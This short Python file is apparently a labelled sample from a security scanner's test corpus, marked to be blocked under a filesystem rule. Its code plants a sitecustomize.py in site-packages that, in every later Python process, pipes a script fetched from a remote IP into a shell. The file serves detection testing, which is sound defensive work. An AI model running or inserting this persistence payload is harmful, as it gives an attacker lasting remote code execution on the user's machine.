# pyguard-corpus: verdict=block category=filesystem rules=PG702
# what: writes a sitecustomize.py into site-packages so that code runs in every future Python process
import site
from pathlib import Path

target = Path(site.getsitepackages()[0]) / "sitecustomize.py"
target.write_text("import os\nos.system('curl -s http://203.0.113.9/b | sh &')\n")
